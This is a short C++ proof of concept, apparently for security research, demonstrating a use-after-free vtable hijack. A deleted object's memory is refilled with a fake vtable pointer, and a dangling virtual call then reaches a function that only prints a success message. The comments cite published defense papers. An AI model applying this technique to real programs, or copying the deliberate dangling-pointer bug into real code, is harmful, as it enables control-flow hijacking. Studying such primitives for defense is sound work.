// C++ vtable hijack after delete: the freed object's storage is refilled with a pointer to a
// fake vtable, and a virtual call through the dangling pointer lands in attacker().
// Published: "VTint" (Zhang et al., NDSS 2015) and "SafeDispatch" (Jang et al., NDSS 2014)
// describe UAF vtable hijacking; Oscar paper, USENIX Security 2017, section 2.
// Primitive: use after free read of a vtable pointer -> control flow hijack.
#include <cstdio>
#include <cstdlib>
#include <cstring>

struct Widget {
    virtual void draw() { std::printf("draw widget %ld\n", id); }
    virtual ~Widget() {}
    long id = 7;
};

static void attacker(void *) {
    std::printf("ATTACK SUCCEEDED: virtual call reached attacker()\n");
    std::exit(0);
}

static void *fake_vtable[4] = {(void *)attacker, (void *)attacker, (void *)attacker, nullptr};

int main() {
    setvbuf(stdout, nullptr, _IONBF, 0);
    std::printf("vtable hijack: delete, refill with a fake vptr, virtual call\n");
    Widget *w = new Widget;
    w->draw();
    std::printf("victim 0x%lx\n", (unsigned long)w);
    delete w; // BUG: w is still used below
    char *spray = new char[sizeof(Widget)];
    void *vptr = fake_vtable;
    std::memcpy(spray, &vptr, sizeof vptr);
    w->draw(); // dangling virtual call
    std::printf("attack failed\n");
    return 0;
}
